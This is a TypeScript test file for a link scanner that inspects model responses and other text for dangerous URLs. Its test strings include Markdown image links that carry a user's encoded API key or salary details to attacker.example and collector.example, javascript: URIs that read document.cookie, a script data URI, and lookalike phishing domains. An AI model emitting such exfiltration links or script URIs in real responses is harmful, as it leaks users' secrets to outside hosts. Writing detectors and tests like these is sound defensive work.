import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { instantiate, scanContext, scanInput, scanTexts, segment } from '../test-support.ts';
import { extractUrls } from './extract.ts';
import { linksScanner } from './index.ts';
import { entropy, isHomograph, isIpLiteral, matchesDomain, parseUrl } from './rules.ts';

const rules = (result: { findings: { ruleId: string }[] }): string[] => [...new Set(result.findings.map((finding) => finding.ruleId))].sort();

describe('links: extraction', () => {
  it('finds inline links, images, reference definitions, autolinks and bare domains', () => {
    const text = [
      'See [the docs](https://docs.example.com/guide#setup) and ![chart](https://img.example.com/c.png "Chart").',
      '[ref]: https://example.org/ref',
      'Mail <https://example.net/a> or visit www.example.io, or just example.dev/path.',
      'Not links: e.g. node.js, readme.md, user@example.com, JavaScript: the good parts.',
    ].join('\n');
    const found = extractUrls(text).map((url) => [url.kind, url.url]);
    assert.deepEqual(found, [
      ['link', 'https://docs.example.com/guide#setup'],
      ['image', 'https://img.example.com/c.png'],
      ['reference', 'https://example.org/ref'],
      ['autolink', 'https://example.net/a'],
      ['bare', 'www.example.io'],
      ['bare', 'example.dev/path'],
    ]);
    const first = extractUrls(text)[0]!;
    assert.equal(text.slice(first.start, first.end), 'https://docs.example.com/guide#setup');
  });

  it('parses hosts, credentials and query parts', () => {
    const parsed = parseUrl('https://user:pw@Example.COM:8443/a%20b?x=1&y=2#frag', true);
    assert.deepEqual(parsed, { host: 'example.com', credentials: true, path: '/a b', query: 'x=1&y=2', fragment: 'frag' });
    assert.ok(isIpLiteral('127.0.0.1') && isIpLiteral('2130706433') && isIpLiteral('0x7f000001') && isIpLiteral('::1'));
    assert.ok(!isIpLiteral('example.com') && !isIpLiteral('1.2.3'));
    assert.ok(matchesDomain('a.b.example.com', 'example.com') && matchesDomain('example.com', '*.example.com'));
    assert.ok(!matchesDomain('notexample.com', 'example.com'));
    assert.ok(isHomograph('\u0430pple.com'), 'Cyrillic a in a Latin label');
    assert.ok(isHomograph('\u0430\u0440\u0440\u04cf\u0435.com'), 'whole-script lookalike');
    assert.ok(!isHomograph('apple.com') && !isHomograph('\u4f8b\u3048.jp'));
    assert.ok(entropy('aaaa') === 0 && entropy('abcd') === 2);
  });
});

describe('links: scanner', () => {
  it('blocks a Markdown image exfiltration attempt and proposes removing the URL', async () => {
    const secret = Buffer.from('The user said their API key is sk-live-1234567890 and lives at 12 Main St').toString('base64');
    const text = `Here is your summary. ![loading](https://attacker.example/pixel.png?d=${secret})`;
    const result = await scanTexts(linksScanner, {}, [text], 'response');
    assert.equal(result.outcome, 'fail');
    const finding = result.findings.find((f) => f.ruleId === 'links/exfiltration')!;
    assert.equal(finding.severity, 'high');
    assert.match(finding.message, /^Image URL/);
    assert.ok(!finding.evidence?.includes(secret), 'evidence never carries the URL');
    assert.equal(result.edits?.length, 1);
    const edit = result.edits![0]!;
    assert.equal(text.slice(0, edit.start) + edit.replacement + text.slice(edit.end), 'Here is your summary. ![loading]([link removed])');
  });

  it('flags conversation text copied into a URL (request remembered in the request state)', async () => {
    const scanner = instantiate(linksScanner, {});
    const context = scanContext();
    await scanner.scan(scanInput(['My salary is ninety thousand dollars and my manager is Dana Whitfield.']), context);
    const response = await scanner.scan(scanInput(['Done! ![x](https://collector.example/i?q=salary+ninety+thousand+dollars)'], 'response'), context);
    assert.deepEqual(rules(response), ['links/exfiltration']);
    const echoInOwnSegment = await scanTexts(linksScanner, {}, ['Search for [best pizza in town](https://search.example.com/?q=best+pizza+in+town).'], 'response');
    assert.deepEqual(rules(echoInOwnSegment), [], 'a link repeating its own text is normal');
  });

  it('flags a punycode domain', async () => {
    const result = await scanTexts(linksScanner, {}, ['Log in at https://xn--pple-43d.com to continue.']);
    assert.deepEqual(rules(result), ['links/punycode']);
  });

  it('flags homographs on the original text, though the canonical view folds them', async () => {
    const text = 'Log in at https://\u0430pple.com/login now';
    const result = await scanTexts(linksScanner, {}, [text]);
    assert.deepEqual(rules(result), ['links/homograph']);
    const [start, end] = result.findings[0]!.span;
    assert.equal(text.slice(start, end), 'https://\u0430pple.com/login');
  });

  it('flags IP hosts, credentials, script and data URIs, and deny-listed domains', async () => {
    const result = await scanTexts(linksScanner, { denyDomains: ['evil.example'] }, [
      'a http://192.168.0.1/admin b https://admin:hunter2@example.com/ c [click](javascript:alert(document.cookie)) d ![x](data:text/html;base64,PHNjcmlwdD4=) e https://cdn.evil.example/x.js',
    ]);
    assert.deepEqual(rules(result), ['links/credentials', 'links/data-uri', 'links/deny-list', 'links/ip-host', 'links/javascript-uri']);
    assert.ok(result.findings.every((finding) => !finding.evidence?.includes('hunter2')));
    const script = 'Click [here](javascript:fetch(document.cookie)) now';
    const edit = (await scanTexts(linksScanner, {}, [script])).edits![0]!;
    assert.equal(script.slice(0, edit.start) + edit.replacement + script.slice(edit.end), 'Click [here]([link removed]) now');
  });

  it('passes normal documentation links, commit hashes and allow-listed destinations', async () => {
    const docs = [
      'See the [Node.js docs](https://nodejs.org/api/fs.html#fspromisesreadfilepath-options) and https://developer.mozilla.org/en-US/docs/Web/API/URL.',
      'The fix is in https://github.com/nodejs/node/commit/4f3a2b1c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a and ![logo](https://example.com/logo.svg).',
      'Reference: [1]: https://en.wikipedia.org/wiki/Markdown and <https://www.rfc-editor.org/rfc/rfc3986>.',
      'Try https://search.example.com/?q=typescript+generics&page=2&lang=en.',
    ];
    const result = await scanTexts(linksScanner, {}, docs);
    assert.deepEqual(result.findings, []);
    assert.equal(result.outcome, 'pass');
    const longQuery = `![x](https://stats.example.com/p.gif?${'a'.repeat(300)})`;
    assert.deepEqual(rules(await scanTexts(linksScanner, {}, [longQuery])), ['links/exfiltration']);
    assert.deepEqual(rules(await scanTexts(linksScanner, { allowDomains: ['example.com'] }, [longQuery])), []);
  });

  it('maps spans through hidden characters and fullwidth text to the original', async () => {
    const text = 'go to h\u200Bttps://xn--pple-43d.com now';
    const result = await scanTexts(linksScanner, {}, [segment(text, 's0')]);
    const [start, end] = result.findings[0]!.span;
    assert.equal(text.slice(start, end), 'h\u200Bttps://xn--pple-43d.com');
  });
});
